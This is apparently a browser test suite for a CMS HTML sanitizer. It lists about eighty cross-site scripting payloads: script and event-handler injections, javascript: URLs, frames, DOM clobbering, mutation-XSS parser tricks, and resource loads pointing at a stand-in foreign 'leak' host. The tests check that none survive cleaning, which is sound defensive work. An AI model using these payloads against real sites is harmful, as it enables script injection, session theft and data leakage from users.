/** HTML that wants more than to be read. Each payload calls `hacked()` where it gets to run something. */
import { expect } from '@open-wc/testing';
import { cleanContent } from '../../src/html/cms-content.js';
import { FOREIGN, notAllowed, OPTIONS, parsedAgain } from './allow-list.js';

const LEAK = `${FOREIGN}/media/leak`;
const RUN = '<img src=x onerror=hacked()>';

const PAYLOADS: Readonly<Record<string, string>> = {
  // scripts
  script: '<script>hacked()</script>',
  'script in odd case': '<ScRiPt >hacked()</sCrIpT x>',
  'script inside a script': '<scr<script>ipt>hacked()</scr</script>ipt>',
  'script with a source': `<script src="${LEAK}.js"></script>`,
  'module script': '<script type="module">hacked()</script>',
  'unclosed script': '<script>hacked()',
  'script in a table': '<table><script>hacked()</script><tr><td>a</table>',
  'script in svg': '<svg><script>hacked()</script></svg>',
  'script in svg by href': '<svg><script href="data:text/javascript,hacked()"/></svg>',
  'script in math': '<math><script>hacked()</script></math>',

  // handlers
  'image that fails': RUN,
  'image with an odd handler': '<img/src=x\nonerror\n=\n"hacked()"/>',
  'handler with a null byte': '<img src=x on\0error=hacked()>',
  'handler after a slash': '<b/onmouseover=hacked()/style=position:fixed;inset:0>a</b>',
  'focus without a click': '<a href="/a" autofocus tabindex=0 onfocus=hacked()>a</a>',
  'details that toggle': '<details open ontoggle=hacked()><summary>a</summary>b</details>',
  'handler of an animation': '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=hacked()>a</b>',
  'body with a handler': '<body onload=hacked() onpageshow=hacked()><p>a',
  'popover with a handler': '<button popovertarget=p>a</button><div popover id=p onbeforetoggle=hacked()>b</div>',
  'content that becomes visible': '<p oncontentvisibilityautostatechange=hacked() style="content-visibility:auto">a',
  'handler on an unknown element': '<x-y onclick=hacked() onpointerrawupdate=hacked()>a</x-y>',

  // addresses
  'javascript link': '<a href="javascript:hacked()">a</a>',
  'javascript link with entities': '<a href="&#106;ava&Tab;script&colon;hacked()">a</a>',
  'javascript link after control characters': '<a href="\x01\x0bjavascript:hacked()">a</a>',
  'javascript link in svg': '<svg><a xlink:href="javascript:hacked()"><text y=20>a</text></a></svg>',
  'javascript link set by an animation':
    '<svg><a><animate attributeName=href values=javascript:hacked() /><text y=20>a</text></a></svg>',
  'javascript link in math': '<math href="javascript:hacked()"><mi>a</mi></math>',
  'vbscript link': '<a href="vbscript:hacked()">a</a>',
  'data link': '<a href="data:text/html,<script>opener.hacked()</script>">a</a>',
  "link in the page's place": '<base href="javascript:/a/-hacked()//"><a href="#">a</a>',
  'area of an image map': '<map name=m><area href="javascript:hacked()" shape=default></map><img usemap=#m src=/a.png>',
  'address of a quotation': '<q cite="javascript:hacked()">a</q><blockquote cite="javascript:hacked()">b</blockquote>',

  // frames, objects, documents
  'foreign frame': `<iframe src="${LEAK}.html"></iframe>`,
  'frame that runs a script': '<iframe src="javascript:parent.hacked()"></iframe>',
  'frame with its own document': '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  'frame that looks like a video': `<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>parent.hacked()</script>" onload=hacked()></iframe>`,
  'frame with markup in its title': `<iframe src="https://player.vimeo.com/video/1" title="</a>${RUN}"></iframe>`,
  object: `<object data="${LEAK}.swf"><embed src="${LEAK}.swf"></object>`,
  'object with a document': '<object data="data:text/html,<script>parent.hacked()</script>"></object>',
  frameset: `<frameset onload=hacked()><frame src="${LEAK}.html"></frameset>`,
  portal: `<portal src="${LEAK}.html"></portal><fencedframe src="${LEAK}.html"></fencedframe>`,
  'shadow root': `<div><template shadowrootmode=open>${RUN}<style>*{color:red}</style></template></div>`,
  template: `<template>${RUN}<script>hacked()</script></template>`,

  // what asks a foreign host
  'foreign image': `<img src="${LEAK}.png" srcset="${LEAK}-2.png 2x">`,
  'image of the picture element': `<picture><source srcset="${LEAK}.png"><img src="/media/none"></picture>`,
  'image in svg': `<svg><image href="${LEAK}.png"/><use href="${LEAK}.svg#a"/><feImage href="${LEAK}.png"/></svg>`,
  'image of an input': `<input type=image src="${LEAK}.png">`,
  'audio and video': `<video src="${LEAK}.mp4" poster="${LEAK}.png" autoplay></video><audio src="${LEAK}.mp3" autoplay></audio><track src="${LEAK}.vtt">`,
  'background of a table': `<table background="${LEAK}.png"><tr><td background="${LEAK}.png">a</table>`,
  'background by style': `<p style="background:url(${LEAK}.png)">a</p>`,
  'style sheet': `<style>@import "${LEAK}.css";*{background:url(${LEAK}.png)}</style>`,
  'style sheet in svg': `<svg><style>@import "${LEAK}.css";</style></svg>`,
  'linked style sheet': `<link rel=stylesheet href="${LEAK}.css"><link rel=prefetch href="${LEAK}.js"><link rel=preload as=image href="${LEAK}.png">`,
  refresh: `<meta http-equiv=refresh content="0;url=${LEAK}.html">`,
  'refresh that runs a script': '<meta http-equiv="refresh" content="0;url=javascript:hacked()">',
  'foreign image in a contact card': `<div class=contact-card><img src="${LEAK}.png" onerror=hacked()>a</div>`,

  // forms
  form: `<form action="${LEAK}" method=post><input name=password><button formaction="javascript:hacked()">a</button></form>`,
  "fields of a stranger's form": `<input form=login name=user><textarea name=b>a</textarea><select><option>b</select>`,
  'key generator and dialog': '<keygen autofocus onfocus=hacked()><dialog open><form method=dialog><button>a</dialog>',

  // clobbering
  'image named body': '<img name=body src=/media/none><p>a</p>',
  'form that hides its own children': `<form name=body><input name=childNodes><input name=attributes>${RUN}</form>`,
  "form that can't be removed": '<form hidden onclick=hacked()><input name=remove><input name=parentNode>a</form>',
  "card that can't be replaced": '<form class=contact-card onclick=hacked()><input name=replaceWith>a</form>',
  'names of the page':
    '<a id=config href="javascript:hacked()">a</a><form id=config><output name=url>b</output></form>',
  'forged marker': `<data value=0>a</data><data value="constructor">b</data><div class=contact-card><data value=0 onclick=hacked()>c</data></div>`,

  // markup that changes when it is parsed again
  'style in svg in a paragraph': `<svg></p><style><a id="</style>${RUN}">`,
  'title in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${RUN.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  'table and form in math': `<form><math><mtext></form><form><mglyph><style></math>${RUN}`,
  'annotation in math': `<math><annotation-xml encoding="text/html"><style><img title="</style>${RUN}"></style></annotation-xml></math>`,
  'foreign object': `<svg><foreignObject><math><mi><style><!-- </style>${RUN}--></style></mi></math></foreignObject></svg>`,
  'noscript in a title': `<noscript><p title="</noscript>${RUN}"></noscript>`,
  'old text elements': `<xmp><p title="</xmp>${RUN}"></xmp><noembed><p title="</noembed>${RUN}"></noembed><noframes><p title="</noframes>${RUN}"></noframes>`,
  'textarea and title': `<textarea><p title="</textarea>${RUN}"></textarea><title><p title="</title>${RUN}"></title>`,
  plaintext: `<p>a</p><plaintext><p title="</plaintext>${RUN}">`,
  'comment that ends early': `<!--><p title="-->${RUN}">a</p><!-- --!>${RUN}<!-->`,
  'processing instruction': `<?xml version="1.0"?><?php echo '>${RUN}' ?><![CDATA[>${RUN}]]>`,
  'section of character data in svg': `<svg><![CDATA[><p title="]]></svg>${RUN}">]]></svg>`,
  'attribute that looks like markup': `<p title="</p>${RUN}" lang='"><script>hacked()</script>'>a</p>`,
  'backtick in an attribute': '<img alt="``onerror=hacked()" src=/media/none>',
  'select with a template': `<select><template><style><!--</template>${RUN}--></style></select>`,
  'deeply nested svg': `${'<div>'.repeat(510)}<svg><title><style><a title="</style>${RUN}"></svg>`,
  'table that lets its content go': `<table><tr><a href="javascript:hacked()">a</a><svg><style>${RUN}</style></svg></table>`,
  'nested links': '<a href="/a">a<table><a href="javascript:hacked()">b</table></a>',
  'headings that close': `<h1><svg><h2 title="</svg>${RUN}">a</h2></svg></h1>`,
};

declare global {
  interface Window {
    hacked: () => void;
  }
}

describe('hostile content', () => {
  let ran: string[] = [];
  let current = '';

  beforeEach(() => {
    ran = [];
    window.hacked = () => ran.push(current);
  });

  for (const [name, html] of Object.entries(PAYLOADS)) {
    it(`${name}: nothing is left but what may be there, also after a second parse`, () => {
      const content = cleanContent(html, OPTIONS);
      const again = parsedAgain(content);
      expect(notAllowed(content)).to.deep.equal([]);
      expect(notAllowed(again)).to.deep.equal([]);
      expect(content.querySelectorAll('data')).to.have.length(0);
    });
  }

  it('runs nothing and asks nobody, neither as it is nor when a page writes it out and in again', async () => {
    const place = document.createElement('div');
    document.body.append(place);
    for (const [name, html] of Object.entries(PAYLOADS)) {
      current = name;
      const content = cleanContent(html, OPTIONS);
      place.append(content);
      const again = document.createElement('div');
      place.append(again);
      again.innerHTML = content.innerHTML;
      for (const each of place.querySelectorAll<HTMLElement>('b, p, details, summary')) each.click();
    }
    // a failed image of our own is told after all that failed before it
    await new Promise((resolve) => {
      const last = new Image();
      last.onerror = resolve;
      last.src = `${FOREIGN}/media/none`;
    });
    place.remove();
    expect(ran).to.deep.equal([]);
    const leaks = performance.getEntriesByType('resource').filter((entry) => entry.name.startsWith(LEAK));
    expect(leaks.map((entry) => entry.name)).to.deep.equal([]);
  });

  it('would have run and asked without the cleaning: these payloads bite', async () => {
    const place = document.createElement('div');
    document.body.append(place);
    const bitten = new Promise((resolve) => (window.hacked = () => resolve(null)));
    place.innerHTML = RUN;
    await bitten;
    place.remove();
  });
});
